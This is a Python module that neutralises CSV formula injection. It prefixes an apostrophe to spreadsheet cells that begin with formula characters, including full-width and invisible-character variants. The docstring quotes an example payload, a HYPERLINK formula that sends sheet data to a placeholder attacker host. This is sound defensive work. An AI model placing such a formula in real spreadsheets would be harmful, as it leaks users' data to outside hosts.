"""Cells for the CSV files coaches and operators open in Excel, Sheets or LibreOffice.

Text a teacher typed (a ticket, a room, a tool's or a workshop's name) reaches those files,
and a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
as a formula (`=HYPERLINK("http://evil.example/?d="&A3,"click")` sends the sheet's data
away). Every CSV writer in bot/ and adapters/ passes its rows through `row`, which does what
OWASP advises against CSV injection: a leading `'` makes such a cell plain text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# What an importer may trim before it reads the first character ("Trim spaces", a BOM): the
# cell is judged by what follows them (" =HYPERLINK(", "\u200b=1+1", "\n=2+2").
LEADING = " \t\r\n\u00a0\u200b\u200c\u200d\u2060\ufeff\x00"
# A signed plain number ("-3", "+0.5") runs nothing and reads as a number; left as it is, so
# a column of changes or scores stays numeric.
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?", re.ASCII)


def cell(value: object) -> object:
    """The value, with a `'` before a text that a spreadsheet would run as a formula."""
    if not isinstance(value, str) or PLAIN_NUMBER.fullmatch(value):
        return value
    if value.startswith(("\t", "\r")) or value.lstrip(LEADING).startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row(values: Iterable[object]) -> list[object]:
    """Every cell of a CSV row made safe to open in a spreadsheet (see `cell`)."""
    return [cell(value) for value in values]
